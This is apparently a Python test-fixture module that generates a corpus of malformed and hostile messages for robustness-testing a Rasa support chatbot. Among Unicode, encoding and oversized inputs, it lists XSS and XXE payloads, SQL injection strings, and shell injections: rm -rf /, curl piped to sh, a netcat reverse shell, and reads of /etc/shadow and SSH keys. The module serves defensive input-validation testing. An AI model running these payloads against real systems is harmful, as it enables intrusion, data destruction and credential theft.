"""A corpus of hostile, broken and unusual user messages: (category, text) pairs.

Built deterministically (hand-written inputs, programmatic variants and seeded mixes), so
every run sends the same texts. Raw bodies that are not JSON or not UTF-8 cannot be a
`message` string: tests/test_bad_input_corpus.py posts those separately (RAW_BODIES).
"""

from __future__ import annotations

import json
import random
from typing import Dict, List, Tuple

SEED = 20261125
QUESTION = "I forgot my nuget.org password"

EMPTY = [
    "",
    "\u200b",  # zero-width space
    "\ufeff",  # byte order mark
    "\u2060\u2060",  # word joiners
    "\u200c\u200d",  # zero-width (non-)joiner
    "\u180e",  # Mongolian vowel separator
    "\u00ad",  # soft hyphen
    "\u034f",  # combining grapheme joiner alone
]

WHITESPACE = [
    " ",
    "   ",
    "\t",
    "\n",
    "\r\n",
    "\r",
    "\v\f",
    " \t \n \r ",
    "\u00a0",  # no-break space
    "\u3000",  # ideographic space
    "\u2028\u2029",  # line and paragraph separators
    "\u2002\u2003\u2009\u200a",  # en, em, thin, hair spaces
    "\u1680",  # ogham space mark
    "\u0085",  # next line
    " " * 10_000,
    "\n" * 5_000,
    "\t\n" * 2_500,
    "\u00a0" * 3_000,
    " \u3000 " * 1_000,
    "\r\n" * 4_000,
]

_WORDS = "account password login microsoft nuget email reset help the my a to link".split()


def _long() -> List[str]:
    rng = random.Random(SEED)
    words = " ".join(rng.choice(_WORDS) for _ in range(5_000))
    trace = "\n".join(
        f'  File "/app/module{i}.py", line {i * 7}, in handler{i}\n    raise ValueError("x")'
        for i in range(300)
    )
    return [
        "x" * 20_000,
        "password " * 3_000,
        words,
        "a" * 50_000,
        "🔥" * 20_000,
        "删除帐户" * 5_000,
        "كلمة السر " * 2_100,
        ("line of text\n" * 2_000),
        "x" * 20_000 + " " + QUESTION,
        QUESTION + " " + "y" * 20_000,
        "Traceback (most recent call last):\n" + trace,
        "".join(chr(0x41 + (i % 26)) for i in range(100_000)),
        "<b>" * 7_000,
        "forgot my password " + "!" * 25_000,
    ]


def _control() -> List[str]:
    codes = [*range(0x00, 0x20), 0x7F, *range(0x80, 0xA0, 3)]
    made = [f"forgot{chr(c)}password" for c in codes]
    return made + [
        "\x00",
        "\x00" * 100,
        "\x00\x01\x02\x1b[31m binary \ufffd\ufffd",
        "\x1b[2J\x1b[H\x1b[31mRED\x1b[0m forgot password",
        "\x1b]0;title\x07 delete my account",
        "\x08\x08\x08\x08 backspaces",
        "bell\x07\x07\x07",
        "".join(chr(c) for c in range(0x20)) * 50,
        "\ufff9annotated\ufffb",  # interlinear annotation characters
        "\U000e0001\U000e0074\U000e0065\U000e0073\U000e0074",  # tag characters
        "\ue000\uf8ff private use",
        "\U0010fffd",  # plane 16 private use
        "\ufffe\uffff noncharacters",
    ]


_BAD_BYTES = [
    b"\xff\xfe",
    b"\xfe\xff",
    b"\xc0\xaf",  # overlong "/"
    b"\xed\xa0\x80",  # encoded surrogate
    b"\xf4\x90\x80\x80",  # beyond U+10FFFF
    b"\x80",
    b"\xbf\xbf",
    b"\xc3\x28",
    b"\xe2\x82",  # truncated
    b"\xf0\x28\x8c\xbc",
    b"l\xf6sche mein Konto",  # latin-1 in place of UTF-8
]


def _invalid_utf8_escapes() -> List[str]:
    made = []
    for raw in _BAD_BYTES:
        made.append("".join(f"\\x{b:02x}" for b in raw))
        made.append("".join(f"%{b:02X}" for b in raw))
        made.append(raw.decode("utf-8", errors="replace"))
        made.append(raw.decode("latin-1"))
    return made + [
        "\\xff\\xfe",
        "%FF%FE",
        "\\udcff",
        "\\ud800\\udc00",
        "\\u0000",
        "%00",
        "&#0;",
        "&#xD800;",
        "\\x00\\x00 forgot password",
        "I forgot my password %FF%FE%00",
        "Wie l\u00c3\u00b6sche ich mein Konto?",  # mojibake
        "\u00e2\u20ac\u2122 \u00e2\u20ac\u0153quoted\u00e2\u20ac\x9d",  # cp1252 mojibake
        "\ufffd" * 50,
        "\\N{NULL}",
        "\\U0010FFFF\\U00110000",
    ]


EMOJI = [
    "😀😀🎉🔥",
    "🔑",
    "🔒🔓",
    "😭 forgot password 😭",
    "👨‍👩‍👧‍👦",
    "🏳️‍🌈",
    "🇺🇸🇩🇪🇯🇵",
    "👍🏽👍🏿",
    "1️⃣ 2️⃣ 3️⃣",
    "🙂" * 500,
    "🤷‍♀️🤷‍♂️",
    "❤️",
    "©️®️™️",
    ":)",
    ":-( :'(",
    "¯\\_(ツ)_/¯",
    "(╯°□°)╯︵ ┻━┻",
    "🧑‍💻 delete my 🧑‍💻 account",
    "🅽🆄🅶🅴🆃 🅿🅰🆂🆂🆆🅾🆁🅳",
    "🫠🫥🫨",
    "🏴󠁧󠁢󠁳󠁣󠁴󠁿",
    "💩" * 1_000,
    "👋",
    "✅ worked ❌ still stuck",
    "🆘🆘🆘 help",
]

RTL = [
    "كيف أحذف حسابي",
    "نسيت كلمة المرور الخاصة بحسابي في nuget.org",
    "איך אני מוחק את החשבון שלי?",
    "שכחתי את הסיסמה שלי",
    "چگونه حساب کاربری خود را حذف کنم؟",
    "میں اپنا پاس ورڈ بھول گیا",
    "\u202edrowssap ym togrof I",  # right-to-left override
    "\u202bnuget\u202c account",
    "\u200fforgot\u200e password\u200f",
    "\u2067\u2066isolate\u2069\u2069",
    "حسابي account1@outlook.com لا يعمل",
    "user \u202e@outlook.com",
    "ܐܝܟ ܡܫܢܐ ܐܢܐ",  # Syriac
    "ދިވެހި",  # Thaana
    "\u202e" * 100 + "mixed",
]

OTHER_LANGUAGES = [
    "Wie lösche ich mein Konto?",
    "Ich habe mein Passwort vergessen",
    "J'ai oublié mon mot de passe",
    "Comment supprimer mon compte NuGet ?",
    "¿Cómo cambio mi contraseña?",
    "Esqueci minha senha do nuget",
    "Ho dimenticato la password",
    "Ik ben mijn wachtwoord vergeten",
    "Zapomniałem hasła do konta",
    "Я забыл пароль от аккаунта",
    "Як видалити обліковий запис?",
    "Şifremi unuttum",
    "Ξέχασα τον κωδικό μου",
    "如何删除我的帐户",
    "我忘記了密碼",
    "パスワードを忘れました",
    "비밀번호를 잊어버렸어요",
    "मैं अपना पासवर्ड भूल गया",
    "আমি আমার পাসওয়ার্ড ভুলে গেছি",
    "ฉันลืมรหัสผ่าน",
    "Tôi quên mật khẩu",
    "Saya lupa kata sandi",
    "Nimesahau nenosiri langu",
    "Unohdin salasanani",
    "Elfelejtettem a jelszavam",
    "Zapomněl jsem heslo",
    "დამავიწყდა პაროლი",
    "Մոռացել եմ գաղտնաբառը",
    "የይለፍ ቃሌን ረሳሁ",
    "என் கடவுச்சொல்லை மறந்துவிட்டேன்",
    "ｆｏｒｇｏｔ ｍｙ ｐａｓｓｗｏｒｄ",  # fullwidth
    "𝐟𝐨𝐫𝐠𝐨𝐭 𝐦𝐲 𝐩𝐚𝐬𝐬𝐰𝐨𝐫𝐝",  # mathematical bold
    "f\u0336o\u0336r\u0336g\u0336o\u0336t\u0336",  # strike-through combining marks
    "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324\u031e\u0349\u035a"
    "\u032f\u031e\u0320\u034dA\u036b\u0357\u0334\u0362\u0335\u031c\u0330\u0354L\u0368\u0367"
    "\u0369\u0358\u0320G\u0311\u0357\u030e\u0305\u035b\u0341\u0334\u033b\u0348\u034d\u0354"
    "\u0339O\u0342\u030c\u030c\u0358\u0328\u0335\u0339\u033b\u031d\u0333",  # zalgo
    "раssword fоrgоt",  # Cyrillic homoglyphs
    "ⓕⓞⓡⓖⓞⓣ ⓟⓐⓢⓢⓦⓞⓡⓓ",
    "ᚠᛟᚱᚷᛟᛏ",  # runes
    "𓀀𓀁𓀂",  # hieroglyphs
]

HTML_SCRIPT = [
    "<script>alert(1)</script>",
    "<ScRiPt>alert(document.cookie)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    '"><script>alert(1)</script>',
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert&#40;1&#41;</script>",
    "<iframe src=javascript:alert(1)>",
    '<a href="javascript:alert(1)">reset password</a>',
    "javascript:alert(1)",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "<style>*{display:none}</style>",
    "<!-- forgot password -->",
    "<b>forgot</b> my <i>password</i>",
    "<p>" * 500,
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><x>&xxe;</x>',
    "{{7*7}}",
    "{{constructor.constructor('alert(1)')()}}",
    "${7*7}",
    "<%= 7*7 %>",
    "#{7*7}",
    "[click me](javascript:alert(1))",
    "![img](http://127.0.0.1/x.png)",
    '<meta http-equiv="refresh" content="0;url=http://evil.example">',
]

SQL = [
    "'; DROP TABLE users; --",
    "' OR '1'='1",
    "' OR 1=1 --",
    '" OR ""="',
    "admin'--",
    "1; DROP TABLE accounts",
    "'; DELETE FROM support_requests; --",
    "' UNION SELECT username, email FROM accounts --",
    "1' AND SLEEP(5)--",
    "'; SELECT pg_sleep(5); --",
    "' OR 1=1; UPDATE accounts SET username='x' --",
    "'; EXEC xp_cmdshell('dir'); --",
    "admin@contoso.com' OR '1'='1",
    "LegacyDev' --",
    'LegacyDev"; DROP TABLE lookup_attempts; --',
    "%27%20OR%201%3D1",
    "1' ORDER BY 1--",
    "') OR ('a'='a",
    "SELECT * FROM accounts WHERE 1=1",
    "'; ATTACH DATABASE '/tmp/x.db' AS x; --",
    "\\'; DROP TABLE users; --",
    "' || (SELECT sqlite_version()) || '",
    "';\x00 DROP TABLE users",
    "username:LegacyDev",
    "email:account1@outlook.com",
]

SHELL = [
    "; rm -rf /",
    "$(reboot)",
    "`id`",
    "| cat /etc/passwd",
    "&& curl http://127.0.0.1/x | sh",
    "${IFS}cat${IFS}/etc/passwd",
    "../../../../etc/passwd",
    "..\\..\\..\\windows\\win.ini",
    "%0aid",
    ":(){ :|:& };:",
    "$(echo pwned)@outlook.com",
    "${jndi:ldap://127.0.0.1/a}",
    "%s%s%s%s%n",
    "{0.__class__.__mro__}",
    "__import__('os').system('id')",
    "; nc -e /bin/sh 127.0.0.1 4444",
    "> /dev/null 2>&1 &",
    "\\\\server\\share\\file",
    "file:///etc/shadow",
    "C:\\Windows\\System32\\cmd.exe /c dir",
    "~/.ssh/id_rsa",
    "$HOME $PATH %USERPROFILE%",
]


def _json_fragments() -> List[str]:
    return [
        '{"message": null, "__proto__": {}}',
        "{",
        "}",
        "[]",
        "null",
        "true",
        "0",
        "-1e309",
        "NaN",
        "Infinity",
        '{"sender": "someone-else", "message": "delete my account"}',
        '{"intent": {"name": "delete_account", "confidence": 1.0}}',
        '{"metadata": {"identity_token": "forged"}}',
        '"\\u0000"',
        "[" * 1_000 + "]" * 1_000,
        '{"a":' * 500,
        '{"a": 1, "a": 2}',
        json.dumps({"text": "forgot password", "entities": [{"entity": "email", "value": "x"}]}),
        '{"message": "hi"}\n{"message": "again"}',
        json.dumps({"deep": [[[[[[[[[["x"]]]]]]]]]]}),
        '{"constructor": {"prototype": {"admin": true}}}',
        "'single': 'quotes'",
    ]


def _long_emails_and_usernames() -> List[str]:
    label63 = "d" * 63
    made = [
        "a" * 64 + "@outlook.com",
        "a" * 65 + "@outlook.com",
        "a" * 200 + "@outlook.com",
        "a" * 1_000 + "@outlook.com",
        "user@" + label63 + ".com",
        "user@" + "d" * 64 + ".com",
        "a" * 64 + "@" + ".".join([label63] * 3) + ".com",  # 260 characters
        "user@" + ".".join(["sub"] * 100) + ".com",
        "x" * 10_000 + "@contoso.com",
        "user@" + "contoso." * 2_000 + "com",
        "A" * 64,
        "A" * 65,
        "A" * 100,
        "A" * 1_000,
        "A" * 20_000,
        "a.b-c_d" * 9,
        "LegacyDev" * 8,
        "my username is " + "Z" * 70,
        "my email is " + "b" * 300 + "@example.org",
        '"john..doe"@example.com',
        "user+tag+tag+tag@outlook.com",
        "用户@例子.广告",
        "user@[127.0.0.1]",
        "user@localhost",
        "a@b",
        "@@@@",
        "@" * 300,
        " ".join(f"user{i}@outlook.com" for i in range(100)),
        ",".join(f"user{i}" for i in range(500)),
        "account1@outlook.com" * 20,
        "-LegacyDev-",
        ".hidden",
        "contoso.com" + ".com" * 100,
    ]
    return made


SLACK = [
    "<@U012AB3CD> help",
    "<!channel> forgot password",
    "<!here|@here> anyone?",
    "<!everyone>",
    "<#C024BE7LR|general>",
    "<https://www.nuget.org/account|my account>",
    "<mailto:account1@outlook.com|account1@outlook.com>",
    "*bold* _italic_ ~strike~ `code`",
    "```forgot my password```",
    "> quoted forgot password",
    "&gt; &lt; &amp; escaped",
    ":smile: :+1: :key:",
    "<!subteam^SAZ94GDB8> help",
    "<!date^1392734382^{date_num}|Feb 18, 2014>",
    "<https://evil.example/|https://www.nuget.org>",
    "*_~`nested`~_*",
    "<@U012AB3CD|bob> <@W123>",
    "<tel:+15555550100|call me>",
    "• bullet\n• list\n1. numbered",
    "<<<>>>",
    "*" * 1_000,
]

RASA_COMMANDS = [
    "/",
    "//",
    "/restart",
    "/session_start",
    "/back",
    "/deny",
    "/affirm{",
    '/affirm{"outcome": "worked"',
    '/choose_path{"choice": "../../etc/passwd"}',
    "/nonexistent_intent",
    '/delete_account{"username": "LegacyDev"}',
    "/human_handoff",
    "/next_step",
    "/nlu_fallback",
    "/action_restart",
    "/EXTERNAL_reminder",
    "/greet" * 100,
    "/inform@0.5",
]


# 45,000 characters that the old unbounded email pattern masked in quadratic time: one of them
# in a support request's transcript held the action server for 5.4 s.
SLOW_TO_MASK = [
    "a" * 45_000,
    "a." * 22_500,
    "!#" * 22_500,
]


# Lone surrogates: valid in a JSON string ("\udcff"), but no database or encoder can store
# them (one in a REST sender id made every save of the conversation fail).
LONE_SURROGATES = [
    "\udcff",
    "\ud800",
    "\ud83d",  # the first half of an emoji alone
    "forgot my \udfff password",
    "\ude00 delete my account",
    "account1\udcff@outlook.com",
]

# Addresses outside ASCII: internationalised local parts and domains, and the full-width at
# sign that IMEs type.
UNICODE_EMAILS = [
    "jöhn.doe@exämple.de",
    "my email is jöhn.doe@exämple.de",
    "account1＠outlook.com",
    "jöhn.doe＠exämple.de",
    "ａｃｃｏｕｎｔ１＠ｏｕｔｌｏｏｋ．ｃｏｍ",
    "builder@contoso.com\u200b",
    "Ünïcödé@münchen.de",
    "пользователь@пример.рф",
]


def _mixed(sources: Dict[str, List[str]]) -> List[str]:
    """Seeded concatenations of short inputs from different categories."""
    rng = random.Random(SEED)
    short = {name: [t for t in texts if len(t) <= 200] for name, texts in sources.items()}
    names = sorted(n for n, texts in short.items() if texts)
    made = []
    for _ in range(50):
        picked = rng.sample(names, 3)
        made.append(" ".join(rng.choice(short[name]) for name in picked))
    return made


def _build() -> List[Tuple[str, str]]:
    sources = {
        "empty": EMPTY,
        "whitespace": WHITESPACE,
        "long": _long(),
        "control_characters": _control(),
        "invalid_utf8_escapes": _invalid_utf8_escapes(),
        "emoji": EMOJI,
        "right_to_left": RTL,
        "other_languages": OTHER_LANGUAGES,
        "html_script": HTML_SCRIPT,
        "sql_injection": SQL,
        "shell_injection": SHELL,
        "json_fragments": _json_fragments(),
        "long_emails_usernames": _long_emails_and_usernames(),
        "slack_markup": SLACK,
        "rasa_command_syntax": RASA_COMMANDS,
    }
    sources["mixed"] = _mixed(sources)
    sources["slow_to_mask"] = SLOW_TO_MASK  # after "mixed", which would change otherwise
    sources["lone_surrogates"] = LONE_SURROGATES
    sources["unicode_emails"] = UNICODE_EMAILS
    seen = set()
    corpus = []
    for category, texts in sources.items():
        for text in texts:
            if text not in seen:
                seen.add(text)
                corpus.append((category, text))
    return corpus


CORPUS: List[Tuple[str, str]] = _build()
CATEGORIES = list(dict.fromkeys(category for category, _ in CORPUS))


def by_category() -> Dict[str, int]:
    counts: Dict[str, int] = {}
    for category, _ in CORPUS:
        counts[category] = counts.get(category, 0) + 1
    return counts


# Bodies posted as they are to /webhooks/rest/webhook: (name, content type, bytes).
def raw_bodies() -> List[Tuple[str, str, bytes]]:
    as_json = "application/json"
    return [
        ("sender_int_message_list", as_json, b'{"sender": 5, "message": []}'),
        ("no_sender", as_json, b'{"message": "hi"}'),
        ("invalid_utf8", as_json, b"\xff\xfe\x00"),
        ("invalid_utf8_in_string", as_json, b'{"sender": "raw-1", "message": "\xff\xfe\xc0\xaf"}'),
        ("lone_surrogate_escape", as_json, b'{"sender": "raw-2", "message": "\\udcff"}'),
        ("unclosed_brace", as_json, b"{"),
        ("not_json", as_json, b"forgot my password"),
        ("empty_body", as_json, b""),
        ("json_array", as_json, b"[]"),
        ("json_null", as_json, b"null"),
        ("json_number", as_json, b"5"),
        ("json_string", as_json, b'"hi"'),
        ("message_null", as_json, b'{"sender": "raw-3", "message": null}'),
        ("message_object", as_json, b'{"sender": "raw-4", "message": {"text": "hi"}}'),
        ("message_number", as_json, b'{"sender": "raw-5", "message": 12345}'),
        ("sender_object", as_json, b'{"sender": {"id": 1}, "message": "hi"}'),
        ("metadata_list", as_json, b'{"sender": "raw-6", "message": "hi", "metadata": []}'),
        ("metadata_string", as_json, b'{"sender": "raw-7", "message": "hi", "metadata": "x"}'),
        ("form_encoded", "application/x-www-form-urlencoded", b"sender=raw-8&message=hi"),
        ("text_plain_json", "text/plain", b'{"sender": "raw-9", "message": "hi"}'),
        (
            "two_megabytes",
            as_json,
            json.dumps({"sender": "raw-10", "message": "x" * (2 * 1024 * 1024)}).encode(),
        ),
        ("two_megabytes_garbage", as_json, b"\xff" * (2 * 1024 * 1024)),
        # Beyond the Rasa server's body limit (rasa_plugins/channels/limits.py): a clean 413.
        (
            "ten_megabytes",
            as_json,
            json.dumps({"sender": "raw-11", "message": "x" * 10_000_000}).encode(),
        ),
        ("ten_megabytes_not_json", "text/plain", b"forgot my password " * 550_000),
        # Senders the channel refuses (400): a lone surrogate, none at all, Rasa's shared one.
        ("lone_surrogate_sender", as_json, b'{"sender": "\\udcff", "message": "hi"}'),
        ("lone_surrogates_sender", as_json, b'{"sender": "raw-\\ud800\\udbff", "message": "hi"}'),
        ("empty_sender", as_json, b'{"sender": "", "message": "hi"}'),
        ("default_sender", as_json, b'{"sender": "default", "message": "hi"}'),
        ("control_sender", as_json, b'{"sender": "raw\\u0000-12", "message": "hi"}'),
        ("lone_surrogates_everywhere", as_json, b'{"sender": "\\udfff", "message": "\\ud800"}'),
        (
            "input_channel_chosen",
            as_json,
            b'{"sender": "raw-13", "message": "hi", "input_channel": "slack"}',
        ),
    ]
